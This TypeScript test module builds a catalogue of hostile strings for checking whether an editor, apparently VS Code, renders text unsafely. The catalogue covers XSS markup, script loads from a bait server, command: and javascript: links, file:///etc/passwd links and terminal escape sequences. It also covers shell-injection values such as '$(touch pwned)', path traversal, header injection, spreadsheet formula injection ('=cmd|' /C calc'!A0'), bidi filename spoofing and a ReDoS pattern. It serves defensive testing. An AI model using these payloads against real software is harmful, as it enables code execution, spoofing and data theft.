/** What a string of the corpus would do, were it more than text. */
export interface HostileString {
  readonly name: string;
  readonly text: string;
}

/** Ids that no part of an editor has: whatever shows up under them came out of a string. */
export const BAIT_COMMAND = 'hostile.pwned';
export const BAIT_ICON = 'flame';
export const BAIT_MARKER = '__pwned';

/** UTF-16 units of the longest string. */
const LONG = 100_000;

const ESC = '\u001b';
const RUN = `top.${BAIT_MARKER}=window.${BAIT_MARKER}=1`;

/**
 * Strings that run, load, link, hide or break something where text is taken for more than text.
 *
 * @param bait the address of a server that nobody has a reason to ask
 */
export function hostileStrings(bait: string): readonly HostileString[] {
  return Object.entries({ ...markup(bait), ...links(bait), ...characters(bait), ...sizes(), ...names() }).map(
    ([name, text]) => ({ name, text }),
  );
}

/** Those that fit a line and a field of a few hundred characters. */
export function shortStrings(bait: string): readonly HostileString[] {
  return hostileStrings(bait).filter(({ text }) => text.length <= 300);
}

/** The most dangerous ones in a text that the first line of an error has room for. */
export function hostileLine(bait: string): string {
  return `[x](command:${BAIT_COMMAND}) $(${BAIT_ICON}) <img src="${bait}/line" onerror="${RUN}"> [y](${bait}/y) {0}`;
}

function markup(bait: string): Readonly<Record<string, string>> {
  return {
    script: `<script>${RUN}</script>`,
    'script from elsewhere': `<script src="${bait}/s.js"></script>`,
    'image with a handler': `<img src="${bait}/i.png" onerror="${RUN}">`,
    'image that fails': `<img src=x onerror=${RUN}>`,
    svg: `<svg onload="${RUN}"><image href="${bait}/svg.png"/></svg>`,
    iframe: `<iframe src="${bait}/frame" srcdoc="<script>${RUN}</script>"></iframe>`,
    object: `<object data="${bait}/o"></object><embed src="${bait}/e">`,
    'style element': `<style>@import url("${bait}/import.css");*{background:url(${bait}/bg)}</style>`,
    'style attribute': `<b style="background:url(${bait}/b)">b</b>`,
    'link element': `<link rel="stylesheet" href="${bait}/l.css"><base href="${bait}/">`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${bait}/meta">`,
    form: `<form action="${bait}/f"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">`,
    media: `<video src="${bait}/v" autoplay></video><audio src="${bait}/a" autoplay></audio>`,
    details: `<details open ontoggle="${RUN}">`,
    'end of an attribute': `" onmouseover="${RUN}" x="`,
    'end of an attribute, single quotes': `' autofocus onfocus='${RUN}' x='`,
    'end of a comment': `--><script>${RUN}</script><!--`,
    'end of a script': `</script><script>${RUN}</script>`,
    'end of a title': `</title></textarea></style><img src=x onerror=${RUN}>`,
    entities: `&lt;img src=x onerror=${RUN}&gt; &#60;img src=x onerror=${RUN}&#62;`,
    cdata: `<![CDATA[<img src=x onerror=${RUN}>]]><?php ?>`,
    mutation: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    template: `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
    css: `;}*{background:url(${bait}/css)}`,
  };
}

function links(bait: string): Readonly<Record<string, string>> {
  return {
    'command link': `[run](command:${BAIT_COMMAND})`,
    'command link with arguments': `[run](command:${BAIT_COMMAND}?%5B%22x%22%5D "title")`,
    'command autolink': `<command:${BAIT_COMMAND}>`,
    'command link over lines': `[run](\ncommand:${BAIT_COMMAND}\n)`,
    image: `![pixel](${bait}/md.png)`,
    'image by reference': `![pixel][p]\n\n[p]: ${bait}/ref.png`,
    'image in a link': `[![pixel](${bait}/in.png)](command:${BAIT_COMMAND})`,
    link: `[docs](${bait}/docs)`,
    'link by reference': `[docs][d]\n\n[d]: command:${BAIT_COMMAND}`,
    'link with brackets inside': `[a]b](command:${BAIT_COMMAND}) [[x]](command:${BAIT_COMMAND})`,
    autolink: `<${bait}/auto>`,
    address: `${bait}/bare`,
    'address behind letters': `x_${bait}/x 1${bait}/1`,
    'address without a scheme': 'www.pwned.example/www',
    mail: 'pwned@pwned.example <mailto:pwned@pwned.example>',
    'javascript link': `[x](javascript:${RUN}) <javascript:${RUN}>`,
    'data link': `[x](data:text/html,<script>${RUN}</script>)`,
    'data image': `![x](data:image/svg+xml,<svg onload="${RUN}"/>)`,
    'vscode link':
      '[x](vscode://file/etc/passwd) vscode://hostile.pwned/run <vscode:extension/hostile.pwned>',
    'file link': '[x](file:///etc/passwd) <file:///etc/passwd>',
    icon: `$(${BAIT_ICON}) $(${BAIT_ICON}~spin)`,
    'escaped icon': `\\$(${BAIT_ICON}) $$(${BAIT_ICON})`,
    'code fence': `\`\`\`\n[x](command:${BAIT_COMMAND})\n\`\`\`\n<img src="${bait}/fence.png">`,
    table: `| a |\n|---|\n| ![x](${bait}/cell.png) |`,
    'front matter': `---\nx: 1\n---\n# heading [x](command:${BAIT_COMMAND})`,
    'JSON with a schema': `{"$schema":"${bait}/schema.json","$ref":"${bait}/ref.json"}`,
    'source map': `//# sourceMappingURL=${bait}/map.json`,
    'import of a module': `import '${bait}/module.js'; /// <reference path="${bait}/types.d.ts" />`,
  };
}

function characters(bait: string): Readonly<Record<string, string>> {
  return {
    'terminal colours': `${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}[H`,
    'terminal link': `${ESC}]8;;${bait}/osc${ESC}\\link${ESC}]8;;${ESC}\\`,
    'terminal title and clipboard': `${ESC}]0;title\u0007${ESC}]52;c;cHduZWQ=\u0007`,
    'half a terminal sequence': `a${ESC}]8;;${bait} b${ESC}[`,
    'other terminal sequences': '\u009b31m\u0090q\u009c',
    'control characters': 'a\u0000b\u0008c\u000bd\u001be\u007ff\u0085g',
    'line ends': 'one\r\ntwo\rthree\u2028four\u2029five\u0085six',
    'many lines': `top${'\n'.repeat(40)}bottom`,
    'lone surrogates': 'a\ud800b\udc00c\udbff',
    'turned direction': 'invoice\u202egpj.exe \u2066x\u2067y',
    'turned direction, never closed': '\u202e\u202d\u2068\u061c',
    'zero width': 'Geo\u200bI\u200dP\ufeff\u2060',
    'only what is invisible': '\u200b\u2060\ufeff\u00ad',
    'stacked accents': `Z${'\u0301\u0302\u0303\u0304\u0306'.repeat(30)}algo`,
    'language tags': 'flag\u{e0067}\u{e0062}\u{e007f}',
    'not characters': '\ufffe\uffff\u{1ffff}',
    'emoji of many parts': '👩‍👩‍👧‍👦'.repeat(10),
    'wide signs of formulas': '＝HYPERLINK("x")',
  };
}

function sizes(): Readonly<Record<string, string>> {
  return {
    'a long word': 'L'.repeat(LONG),
    'many words': 'word '.repeat(LONG / 5),
    'many brackets': '['.repeat(LONG),
    'many pictures': '!['.repeat(LONG / 2),
    'many stars': '**a '.repeat(LONG / 4),
    'many digits': '1'.repeat(LONG),
    'many spaces': `a${' '.repeat(LONG)}b`,
    'deep JSON': '['.repeat(2000) + ']'.repeat(2000),
    'one character of many parts': `a${'\u0301'.repeat(5000)}`,
  };
}

function names(): Readonly<Record<string, string>> {
  return {
    prototype: '__proto__',
    constructor: 'constructor',
    'other names of objects': 'hasOwnProperty',
    toString: 'toString',
    'place of a translation': '{0} {1} {{0}} {name} %s %d $1 $& $`',
    'path upwards': '../../../etc/passwd',
    'path upwards, Windows': '..\\..\\windows\\system32',
    'path, encoded': '%2e%2e%2f%2e%2e%2fetc%2fpasswd%00',
    'absolute path': '/etc/passwd',
    'name of a device': 'CON',
    'hidden name': '.bashrc',
    'name of a known file': 'package',
    'another known file': 'tsconfig.base',
    'reserved characters': 'a:b*c?d"e<f>g|h#i?j=k',
    'shell, single quotes': "'; touch pwned; '",
    'shell, substitution': '$(touch pwned) `touch pwned` ${IFS}',
    'shell, line end': 'a\ntouch pwned #',
    'header, line end': 'a\r\nX-Injected: 1\r\n\r\n',
    formula: '=HYPERLINK("http://pwned.example","click")',
    'formula with a command': "=cmd|' /C calc'!A0",
    'formula behind white space': '\t=1+1',
    'formula with another sign': '@SUM(1+1)*cmd|x',
    'formula with minus': '-2+3+cmd|x',
    'formula with plus': '+1',
    'end of a cell': '","=1+1',
    pattern: '(a+)+$',
  };
}
